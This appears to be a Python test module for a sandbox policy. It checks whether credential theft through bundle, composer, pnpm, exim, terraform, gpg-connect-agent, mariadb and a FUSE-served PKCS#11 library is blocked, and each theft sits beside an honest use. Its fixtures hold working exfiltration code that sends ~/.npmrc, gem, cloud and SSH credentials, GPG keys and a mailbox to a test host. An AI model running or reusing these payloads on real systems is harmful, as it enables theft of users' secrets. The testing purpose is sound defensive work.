# SPDX-License-Identifier: GPL-2.0-or-later
"""Thefts through programs that the default policy allows to read a file, which run what their user has written: in a
project, in a configuration, as a command; each beside an honest use."""

import os
import shlex

import mysql
import scene as stage
from registry import PORT
from scene import URL

from net import HOST_V4
from tap import Skip, require

OTHER_PORT = 9999  # no rule names it
COMPOSER_TIMEOUT = 60

SEND_IN_RUBY = """require 'socket'
TCPSocket.new('{host}', 443).write(File.read('{path}'))
"""
EXIM_CONFIG = """
primary_hostname = localhost
keep_environment =
begin acl
begin routers
begin transports
"""
# A package manager for Node.js, as far as it runs the code of a project.
PNPM = """#!/usr/bin/env node
require(process.cwd() + "/.pnpmfile.cjs");
const token = require("fs").readFileSync(process.env.HOME + "/.npmrc");
const to = require("net").connect(Number(process.argv[2]), "%s", () => to.end(token));
to.on("error", () => {});
"""
# A library for PKCS #11 that is code of its own.
LIBRARY = """
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>
int C_GetFunctionList(void) {
        return 1;
}
__attribute__((constructor)) static void steal(void) {
        struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(443) };
        char loot[4096];
        int s = socket(AF_INET, SOCK_STREAM, 0);
        ssize_t n = read(open(getenv("KEY"), O_RDONLY), loot, sizeof(loot));

        inet_aton(getenv("SINK"), &to.sin_addr);
        if (n > 0 && connect(s, (struct sockaddr *)&to, sizeof(to)) == 0 && write(s, loot, n) == n)
                _exit(0);
        _exit(1);
}
"""


def gemfile(s, stolen, _):
    """bundle runs the Gemfile of its directory; gem uses its token."""
    path = s.world.write("ana", ".gem/credentials", f"---\n:rubygems_api_key: decoy\nhttp://{HOST_V4}:{PORT}: decoy\n")
    s.world.write("ana", "ruby/Gemfile", SEND_IN_RUBY.format(host=HOST_V4, path=path), 0o644)
    stolen(s, ["env", "-C", "ruby", "bundle", "list"], path, "ruby", "ana", needs="bundle")
    s.world.write("ana", "ruby/Gemfile", f"system('curl -sS {URL}')\n", 0o644)
    s.silent(["env", "-C", "ruby", "bundle", "list"], "ana", status=None, needs="bundle")
    s.world.write("ana", "ruby/own.gemspec", "Gem::Specification.new { |s| s.name = 'own'; s.version = '1'; "
                  "s.summary = 'own'; s.authors = ['ana']; s.files = [] }\n", 0o644)
    s.silent(["sh", "-c", f"cd ruby && gem build -q own.gemspec && gem push --host http://{HOST_V4}:{PORT} own-1.gem"],
             "ana", status=None, needs="gem")


def composer(s, stolen, _):
    """composer runs commands of the project."""
    path = s.world.write("ana", ".config/composer/auth.json", '{"http-basic": {}}\n')
    thief = s.world.write("ana", "thief.py", stage.THIEF)
    s.world.write("ana", "php/composer.json", """{"scripts": {
        "child": "/usr/bin/python3 %s %s %s", "honest": "curl -sS %s"}}""" % (thief, path, HOST_V4, URL), 0o644)
    run = ["composer", "--no-interaction", "--working-dir=php", "--no-plugins", "run-script"]
    stolen(s, [*run, "child"], path, "python", "ana", timeout=COMPOSER_TIMEOUT)
    s.silent([*run, "honest"], "ana", timeout=COMPOSER_TIMEOUT)


def pnpm(s, stolen, _):
    """The .pnpmfile.cjs of a project is code in pnpm: of its user, whose rules know the ports of registries."""
    path = s.world.write("ana", ".npmrc", "//registry.example/:_authToken=decoy\n")
    script = "/usr/local/lib/node_modules/pnpm/bin/pnpm.cjs"
    s.world.do("sh", "-ec", 'mkdir -p "${1%/*}" /usr/local/bin; cat >"$1"; chmod 755 "$1"; ln -sf "$1" '
               "/usr/local/bin/pnpm", "sh", script, stdin=PNPM % HOST_V4)
    s.world.write("ana", "node/.pnpmfile.cjs", "\n", 0o644)
    command = ["env", "-C", "node", "pnpm"]
    s.silent([*command, "443"], "ana", needs="node")
    stolen(s, [*command, str(OTHER_PORT)], path, "node", "ana", port=OTHER_PORT, needs="node")
    # Of another user, as in a directory that was unpacked by root.
    s.world.do("chown", "daemon", f"{s.world.home_of('ana')}/node/.pnpmfile.cjs")
    stolen(s, [*command, "443"], path, "node", "ana", needs="node")


def exim(s, stolen, sender):
    """exim with a configuration of its user's prints the mailbox."""
    path = "/var/mail/ana"
    s.world.do("sh", "-ec", f"mount -t tmpfs -o mode=1777 tmpfs /var/mail; echo decoy-mail >{path}; chown ana {path}")
    conf = s.world.write("ana", "exim.conf", EXIM_CONFIG, 0o644)
    show = f"exim4 -C {conf} -be '${{readfile{{{path}}}}}'"
    stolen(s, ["sh", "-c", f"{show} | {sender}"], path, "python", "ana", needs="exim4")
    stolen(s, ["exim4", "-C", conf, "-be",
               f"${{readsocket{{inet:{HOST_V4}:443}}{{${{readfile{{{path}}}}}}}}}"], path, "exim", "ana")
    s.silent(["sh", "-c", f"{show} >copy; curl -sS {URL}"], "ana", needs="exim4")


def terraform(s, stolen, sender):
    """terraform prints any file; its own token, and that of another tool."""
    secret = {".terraform.d/credentials.tfrc.json": '{"credentials": {}}\n',
              ".pulumi/credentials.json": "{}\n", ".aws/credentials": "[default]\n"}
    for name, text in secret.items():
        path = s.world.write("ana", name, text)
        stolen(s, ["sh", "-c", f"""echo 'file("{path}")' | terraform console | {sender}"""], path, "python", "ana",
               needs="terraform")
    s.silent(["sh", "-c", f"echo '1+1' | terraform console >out; terraform version; curl -sS {URL}"], "ana",
             needs="terraform")


def gpg_connect_agent(s, stolen, sender):
    """It prints what the agent answers: with these commands, a key."""
    s.world.do("sh", "-ec", "gpg -q --batch --passphrase '' --quick-generate-key ana@example.org default default never",
               user="ana")
    try:
        agent = s.world.do("gpgconf", "--list-dirs", "agent-socket", user="ana").strip()
        stolen(s, ["sh", "-c", "grip=$(gpg -K --with-keygrip --with-colons | sed -n '/^grp:/{s/[^0-9A-F]//g;p;q}'); "
                   f"printf 'KEYWRAP_KEY --export\nEXPORT_KEY %s\n' $grip | gpg-connect-agent | {sender}"], agent,
               "python", "ana", needs="gpg-connect-agent")
        s.silent(["sh", "-c", f"gpg-connect-agent updatestartuptty /bye >/dev/null; curl -sS {URL}"], "ana",
                 needs="gpg-connect-agent")
    finally:
        s.world.do("gpgconf", "--kill", "all", user="ana")


def mysql_load(s, stolen, _):
    """mysql loads a file into a table: the password of another client, or an honest one."""
    path = s.world.write("ana", ".pgpass", "*:*:*:ana:decoy\n")
    s.world.write("ana", ".my.cnf", "[client]\npassword=decoy\n")
    honest = s.world.write("ana", "table", "1\n")
    with mysql.serving(s.net):
        command = ["mariadb", "-h", HOST_V4, "--local-infile=1", "-e"]
        stolen(s, [*command, f"LOAD DATA LOCAL INFILE '{path}' INTO TABLE t"], path, "mariadb", "ana", port=mysql.PORT)
        s.silent([*command, f"LOAD DATA LOCAL INFILE '{honest}' INTO TABLE t"], "ana")
        require(b"1\n" in mysql.MySQL.loaded, f"loaded: {mysql.MySQL.loaded}")


def fuse(s, stolen, _):
    """A file system that a user serves says that a library is root's."""
    home = s.world.home_of("ana")
    if not os.path.exists("/dev/fuse"):
        raise Skip("no /dev/fuse", environment=True)
    key = f"{home}/.ssh/id_fuse"
    s.world.do("sh", "-ec", f"mkdir -p library served; gcc -shared -fPIC -o library/p.so -x c -; printf "
               f"'#!/bin/sh\\nexec /usr/lib/openssh/sftp-server\\n' >transport; chmod 755 transport library/p.so; "
               f"ssh-keygen -q -t ed25519 -N '' -f {key}", user="ana", stdin=LIBRARY)
    # Who may use it is up to the machine.
    s.world.do("sh", "-ec", "mknod -m 666 /run/fuse c 10 229; mount --bind /run/fuse /dev/fuse")
    s.silent(["sshfs", f"x:{home}/library", f"{home}/served", "-o",
              f"ssh_command={home}/transport,uid=0,gid=0,umask=022"], "ana")
    try:
        require(s.world.do("stat", "-c", "%u", f"{home}/served/p.so", user="ana") == "0\n", "the owner that FUSE shows")
        ssh = ["ssh", "-F", "none", "-o", "BatchMode=yes", "-o", f"PKCS11Provider={home}/served/p.so", "-o",
               f"IdentityFile={key}", f"ana@{HOST_V4}"]
        stolen(s, ssh, key, "ssh", "ana", KEY=key, SINK=HOST_V4)
    finally:
        s.world.do("fusermount3", "-u", f"{home}/served", user="ana")
    options = s.server.options("ana")
    s.silent(["ssh", *options, "-o", "BatchMode=yes", f"ana@{HOST_V4}", "true"], "ana")


def cases(t, s, server, stolen, sender):
    s.server = server
    sender = shlex.join(sender)
    for what, play in (("a Gemfile", gemfile), ("the commands of a project of composer", composer),
                       ("a .pnpmfile.cjs", pnpm), ("exim with a configuration of her own", exim),
                       ("terraform console", terraform), ("a key from gpg's agent", gpg_connect_agent),
                       ("mysql loads the password of another client", mysql_load),
                       ("a library by FUSE that is root's by its own word", fuse)):
        t.case(f"ana: {what}", play, s, stolen, sender)
